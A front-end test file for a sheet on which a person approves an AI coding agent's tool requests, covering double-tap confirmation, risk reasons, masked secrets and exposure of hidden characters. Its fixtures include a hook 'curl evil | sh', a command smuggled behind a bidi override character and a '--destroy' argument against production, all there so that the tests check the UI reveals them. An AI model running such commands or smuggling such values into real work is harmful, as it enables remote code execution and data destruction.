/* The sheet by role and name, as a person and a screen reader meet it. */
import { act, fireEvent, screen, waitFor } from "@testing-library/react";
import { expect, test } from "vitest";
import { NoticeBar } from "@/features/prompt/notice-bar";
import { PromptOverlay } from "@/features/prompt/prompt-overlay";
import { RequestFailed } from "@/lib/request-failed";
import { anApp, anOption, aPrompt, aSession, type TestApp } from "@/testing/builders";
import { pass, renderApp } from "@/testing/render-app";
import type { InteractivePrompt } from "@/wire/prompt";
import type { Command, ReplyData } from "@/wire/protocol";

const options = [
  anOption("yes", { label: "Yes", role: "allow" }),
  anOption("always", { label: "Yes, and don't ask again", role: "allow-always" }),
  anOption("tell", { label: "Tell Claude", role: "feedback", opensText: true, description: "esc" }),
];

/** A sheet that has settled. */
function open(parts: Partial<InteractivePrompt>, reply?: (command: Command) => ReplyData | Error) {
  const opened = rise(parts, reply);
  pass(1_000);
  return opened;
}

/** A sheet that rose this moment. */
function rise(parts: Partial<InteractivePrompt>, reply?: (command: Command) => ReplyData | Error) {
  const prompts = [{ prompt: aPrompt(parts) }, { prompt: aPrompt({ requestId: "p2", title: "Another" }) }];
  const app = anApp({ sessions: { s1: aSession() }, prompts, sheet: { shown: "p1", lowered: [] } }, reply);
  const view = renderApp(
    app,
    <>
      <PromptOverlay modal />
      <NoticeBar />
    </>,
  );
  const responses = () =>
    app.sent.flatMap((command) => (command.type === "respond" ? [command.response] : []));
  return { app, responses, ...view };
}

const button = (name: string | RegExp) => screen.getByRole("button", { name });

test("it is named by the title, and its heading has the focus, not a button", () => {
  open({ title: "Run this?", options });
  expect(screen.getByRole("alertdialog", { name: "Run this?" })).toBeInTheDocument();
  expect(screen.getByRole("heading", { name: "Run this?" })).toHaveFocus();
});

test("a tap answers once, with a key, and locks the sheet", async () => {
  const { user, responses } = open({ options });
  await user.click(button("Yes"));
  expect(responses()).toEqual([
    { requestId: "p1", selectedOption: "yes", idempotencyKey: expect.any(String) as string },
  ]);
  expect(button("Yes")).toBeDisabled();
  expect(screen.getByText("sending…")).toBeInTheDocument();
});

test("a lasting permission needs a second tap that says what it grants", async () => {
  const { user, responses } = open({ options });
  await user.click(button("Yes, and don't ask again"));
  expect(responses()).toEqual([]);
  pass(500);
  await user.click(button("tap again: Yes, and don't ask again"));
  expect(responses()).toMatchObject([{ selectedOption: "always" }]);
});

test("what risks much says why, and yes takes a second tap that says what it does", async () => {
  const risk = { level: "high", reasons: ["deletes files recursively: src"] } as const;
  const { user, responses } = open({ options, risk: { ...risk, reasons: [...risk.reasons] } });
  expect(screen.getByRole("list", { name: "Risk: high" })).toHaveTextContent(
    "deletes files recursively: src",
  );
  await user.click(button("Yes"));
  expect(responses()).toEqual([]);
  expect(button("tap again: Yes")).toHaveAccessibleDescription("deletes files recursively: src");
  pass(500);
  await user.click(button("tap again: Yes"));
  expect(responses()).toMatchObject([{ selectedOption: "yes" }]);
});

test("a tap beside it lowers it when it is done, so that nothing underneath takes it", () => {
  const { app, container, responses } = open({ options });
  const scrim = container.querySelector(".scrim");
  if (!scrim) throw new Error("no scrim");
  fireEvent.pointerDown(scrim);
  expect(app.store.getState().sheet.shown).toBe("p1");
  fireEvent.click(scrim);
  expect(app.store.getState().sheet).toEqual({ shown: null, lowered: ["p1"] });
  expect(responses()).toEqual([]);
});

test("an option is named by its label alone and described by the rest", () => {
  open({ options });
  expect(button("Tell Claude")).toHaveAccessibleDescription("esc");
});

test("an option that takes text opens its field in place", async () => {
  const { user, responses } = open({ options });
  await user.click(button("Tell Claude"));
  await user.type(screen.getByRole("textbox", { name: "Your answer" }), "use yarn");
  await user.click(button("Send answer"));
  expect(responses()).toMatchObject([{ selectedOption: "tell", textValue: "use yarn" }]);
});

test("neither taps nor digits answer before the sheet has settled", async () => {
  const { user, responses } = rise({ options });
  await user.keyboard("1");
  await user.click(button("Yes"));
  expect(responses()).toEqual([]);
  pass(350);
  await user.keyboard("1");
  expect(responses()).toMatchObject([{ selectedOption: "yes" }]);
});

test("options that change under the finger settle anew, and take a first tap back", async () => {
  const { app, user, responses } = open({ options });
  await user.click(button("Yes, and don't ask again"));
  const changed = { ...aPrompt({ options: options.toReversed() }), title: "Run this command?" };
  act(() => app.store.dispatch({ type: "event", seq: 11, event: { type: "prompt", prompt: changed } }));
  expect(button("Yes, and don't ask again")).toBeInTheDocument();
  await user.click(button("Yes"));
  expect(responses()).toEqual([]);
  pass(350);
  await user.click(button("Yes"));
  expect(responses()).toMatchObject([{ selectedOption: "yes" }]);
});

test("a double tap is no second tap", async () => {
  const { user, responses } = open({ options });
  await user.dblClick(button("Yes, and don't ask again"));
  expect(responses()).toEqual([]);
  pass(6_000);
  await user.click(button("tap again: Yes, and don't ask again"));
  expect(responses()).toEqual([]);
});

test.each([
  ["lowering", (app: TestApp) => app.store.dispatch({ type: "sheet-lowered" })],
  ["turning", (app: TestApp) => app.store.dispatch({ type: "sheet-raised", requestId: "p2" })],
  ["a page that loses the focus", () => void fireEvent.blur(window)],
  ["a tap elsewhere", () => void fireEvent.pointerDown(document.body)],
])("%s takes a first tap back", async (_, happens) => {
  const { app, user } = open({ options });
  await user.click(button("Yes, and don't ask again"));
  expect(button("tap again: Yes, and don't ask again")).toBeInTheDocument();
  act(() => happens(app));
  act(() => app.store.dispatch({ type: "sheet-raised", requestId: "p1" }));
  expect(button("Yes, and don't ask again")).toBeInTheDocument();
});

test("all that a tool is given is shown, and nothing of it is invisible", () => {
  open({
    options,
    title: "Use\u200B ops.run?",
    toolName: "ops.run",
    toolInput: { command: "npm test \u202E;touch x", host: "production", args: ["--destroy"] },
  });
  expect(screen.getByRole("alertdialog", { name: "Use⟨U+200B⟩ ops.run?" })).toBeInTheDocument();
  expect(screen.getByText(/npm test/)).toHaveTextContent("npm test ⟨U+202E⟩;touch x");
  expect(screen.getByText("production")).toBeInTheDocument();
  expect(screen.getByText(/--destroy/)).toBeInTheDocument();
});

test("what is not wholly shown says so, and yes takes a second tap", async () => {
  const { user, responses } = open({ options, toolInput: "echo 1", incomplete: true });
  expect(screen.getByRole("alertdialog")).toHaveAccessibleDescription(/Not all of this is shown/);
  expect(screen.getByText(/cut: not all of it is here/)).toBeInTheDocument();
  await user.click(button("Yes"));
  expect(responses()).toEqual([]);
  expect(button("tap again: Yes")).toHaveAccessibleDescription("not all of it is shown here");
});

test("a contradiction has no buttons, and digits do not answer it", async () => {
  const { user, responses } = open({ options, warning: "The terminal shows something else." });
  expect(screen.getByRole("alertdialog")).toHaveAccessibleDescription("The terminal shows something else.");
  expect(screen.queryByRole("button", { name: "Yes" })).toBeNull();
  await user.keyboard("1");
  expect(responses()).toEqual([]);
  expect(screen.getByRole("link", { name: "Look at the terminal" })).toBeInTheDocument();
});

test("an unknown screen brings its keys only with the screen itself", async () => {
  const screenFrame = {
    cols: 10,
    rows: 1,
    cursor: { x: 0, y: 0, visible: false },
    lines: [[{ text: "Proceed?" }]],
  };
  open({ type: "unrecognized", options: [], screen: screenFrame });
  // Both are fetched, and either may have been fetched before: there must never be keys for a screen that is not seen yet.
  const hasKeys = () => screen.queryByRole("group", { name: "Keys" }) !== null;
  const hasScreen = () => screen.queryByText("Proceed?") !== null;
  expect(hasKeys()).toBe(hasScreen());
  expect(await screen.findByText("Proceed?")).toBeVisible();
  expect(screen.getByRole("group", { name: "Keys" })).toBeVisible();
});

test("what a folder would run is told file by file", () => {
  open({
    options,
    startup: true,
    wouldRun: [
      { file: ".claude/settings.json", what: "hook", text: "curl evil | sh" },
      { file: ".mcp.json", what: "MCP server", text: "./server" },
      { file: ".claude/settings.json", what: "rule", text: "Bash(*)" },
    ],
  });
  const region = screen.getByRole("region", { name: "What this folder would run" });
  expect(region).toHaveTextContent(
    /\.claude\/settings\.json.*hook.*curl evil \| sh.*rule.*Bash\(\*\).*\.mcp\.json.*MCP server.*\.\/server/,
  );
});

test("the agent's words are quoted as its own, above the risk", () => {
  open({ options, description: "Tidies up.", risk: { level: "high", reasons: ["deletes files"] } });
  const words = screen.getByText("Tidies up.");
  expect(words.closest("figure")).toHaveTextContent("Claude says");
  expect(
    words.compareDocumentPosition(screen.getByRole("list", { name: "Risk: high" })) &
      Node.DOCUMENT_POSITION_FOLLOWING,
  ).toBeTruthy();
});

test("away from its chat the sheet shows what the agent said last", () => {
  const { app } = open({ options });
  const session = aSession({ lastLine: "I will clean up now." });
  act(() => app.store.dispatch({ type: "event", seq: 11, event: { type: "session", session } }));
  expect(screen.getByText("I will clean up now.").closest("figure")).toHaveTextContent("Claude said before");
  act(() => app.store.dispatch({ type: "viewing", sessionIds: ["s1"] }));
  expect(screen.queryByText("I will clean up now.")).toBeNull();
});

test("Enter alone answers a program that takes its default", async () => {
  const { user, responses } = open({ textInput: {}, adapter: "generic" });
  await user.click(button(/Enter alone/));
  expect(responses()).toMatchObject([{ textValue: "" }]);
});

test("half a password is forgotten with its prompt", async () => {
  const { app, user } = open({ textInput: { secret: true } });
  await user.type(screen.getByLabelText("Your answer"), "hunter");
  const gone = { type: "prompt-closed", requestId: "p1", outcome: { type: "gone" } } as const;
  act(() => app.store.dispatch({ type: "event", seq: 11, event: gone }));
  const again = aPrompt({ textInput: { secret: true } });
  act(() => app.store.dispatch({ type: "event", seq: 12, event: { type: "prompt", prompt: again } }));
  act(() => app.store.dispatch({ type: "sheet-raised", requestId: "p1" }));
  expect(screen.getByLabelText("Your answer")).toHaveValue("");
});

test("the terminal after a failure is not opened under the sheet", async () => {
  const { app, user } = open({ options }, () => new RequestFailed("not-taken", "No."));
  await user.click(button("Yes"));
  await user.click(await screen.findByRole("link", { name: "open terminal" }));
  expect(app.store.getState().sheet.shown).toBeNull();
});

test("the focus goes back to where it was", async () => {
  const before = document.createElement("button");
  document.body.append(before);
  before.focus();
  const { app } = open({ options });
  expect(before).not.toHaveFocus();
  act(() => app.store.dispatch({ type: "sheet-lowered" }));
  await waitFor(() => expect(before).toHaveFocus());
  before.remove();
});

test("lowering never answers, and what was entered is still there", async () => {
  const { app, user, responses } = open({ options });
  await user.click(button("Tell Claude"));
  await user.type(screen.getByRole("textbox", { name: "Your answer" }), "half");
  await user.keyboard("{Escape}");
  expect(screen.queryByRole("alertdialog")).not.toBeInTheDocument();
  act(() => app.store.dispatch({ type: "sheet-raised", requestId: "p1" }));
  expect(screen.getByRole("textbox", { name: "Your answer" })).toHaveValue("half");
  await user.click(button("Lower"));
  expect(screen.queryByRole("alertdialog")).not.toBeInTheDocument();
  expect(responses()).toEqual([]);
});

test("a secret is masked and gone once it is sent", async () => {
  const { app, user, responses } = open({ textInput: { secret: true } });
  const field = screen.getByLabelText("Your answer");
  expect(field).toHaveAttribute("type", "password");
  await user.type(field, "hunter2");
  await user.click(button("Send answer"));
  expect(responses()).toMatchObject([{ textValue: "hunter2" }]);
  expect(field).toHaveValue("");
  expect(JSON.stringify(app.store.getState())).not.toContain("hunter2");
});

test("several questions: pages, a review, and one answer", async () => {
  const { user, responses } = open({
    questions: [
      { header: "Auth", question: "Which?", options: [anOption("a", { label: "OAuth" })], textInput: {} },
      {
        header: "Stores",
        question: "What?",
        options: [anOption("x", { label: "SQLite" })],
        multiSelect: true,
      },
    ],
  });
  expect(screen.getByText("1 of 2", { selector: ".question__progress *" })).toBeInTheDocument();
  expect(button("Next")).toBeDisabled();
  await user.click(screen.getByRole("radio", { name: "Other…" }));
  await user.type(screen.getByRole("textbox", { name: "Your answer" }), "SAML");
  await user.click(button("Next"));
  await user.click(screen.getByRole("checkbox", { name: "SQLite" }));
  await user.click(button("Next"));
  pass(500);
  expect(screen.getByRole("list", { name: "Your answers" })).toHaveTextContent("Which?SAML");
  await user.click(button("Submit answers"));
  expect(responses()).toMatchObject([
    { answers: [{ selectedOptions: [], textValue: "SAML" }, { selectedOptions: ["x"] }] },
  ]);
});

test("multi-select begins with what the CLI had ticked", async () => {
  const { user, responses } = open({
    multiSelect: true,
    options: [anOption("a", { label: "clippy", checked: true }), anOption("b", { label: "fmt" })],
  });
  expect(screen.getByRole("checkbox", { name: "clippy" })).toBeChecked();
  await user.click(screen.getByRole("checkbox", { name: "fmt" }));
  await user.click(button("Submit"));
  expect(responses()).toMatchObject([{ selectedOptions: ["a", "b"] }]);
});

test("what is not understood shows the screen and the keys", async () => {
  const lines = [[{ text: "strange" }]];
  const frame = { cols: 80, rows: 1, lines, cursor: { x: 0, y: 0, visible: false } };
  const { app, user } = open({ type: "unrecognized", screen: frame });
  expect(screen.getByRole("region", { name: "Terminal screen" })).toHaveTextContent("strange");
  await user.click(button("Shift+Tab"));
  expect(app.sent).toEqual([
    { type: "send-keys", sessionId: "s1", keys: [{ type: "named", key: "back-tab" }] },
  ]);
});

test("a refusal says why and unlocks", async () => {
  const refusal = new RequestFailed("already-answered", "Somebody else answered first.");
  const { user } = open({ options }, () => refusal);
  await user.click(button("Yes"));
  expect(await screen.findByText("Somebody else answered first.")).toBeInTheDocument();
  expect(button("Yes")).toBeEnabled();
});

test("an answer nobody confirmed is tried again with the same key", async () => {
  let reply: ReplyData | Error = new RequestFailed("timeout", "No reply.");
  const { user, responses } = open({ options }, () => reply);
  await user.click(button("Yes"));
  reply = { type: "done" };
  await user.click(await screen.findByRole("button", { name: "try again" }));
  const [first, second] = responses();
  expect(second).toEqual(first);
});

test("the end is announced in the sheet's place, and the next prompt follows", async () => {
  const { app, user } = open({ options });
  act(() => app.store.dispatch({ type: "event", seq: 11, event: closed }));
  expect(screen.queryByRole("alertdialog")).not.toBeInTheDocument();
  expect(screen.getByRole("status")).toHaveTextContent("✓Claude continued: Yes");
  await user.click(button("Dismiss"));
  expect(screen.getByRole("alertdialog", { name: "Another" })).toBeInTheDocument();
});

const closed = {
  type: "prompt-closed",
  requestId: "p1",
  outcome: {
    type: "verified",
    answer: { by: { type: "device", deviceId: "d1", name: "Pixel" }, summary: "Yes" },
  },
} as const;

test("several waiting prompts are a stack to turn", async () => {
  const { user } = open({ title: "First", options });
  await user.click(button("Next prompt"));
  expect(screen.getByRole("alertdialog", { name: "Another" })).toBeInTheDocument();
  await user.click(button("Previous prompt"));
  expect(screen.getByRole("alertdialog", { name: "First" })).toBeInTheDocument();
});

test("while the line is down the sheet says so itself, for it hides the page that does", () => {
  const { app } = open({ options });
  expect(screen.queryByText("reconnecting…")).toBeNull();
  act(() => app.store.dispatch({ type: "connection", connection: { type: "lost", since: Date.now() } }));
  expect(screen.getByText("reconnecting…")).toBeInTheDocument();
  expect(button("Yes")).toBeEnabled();
});
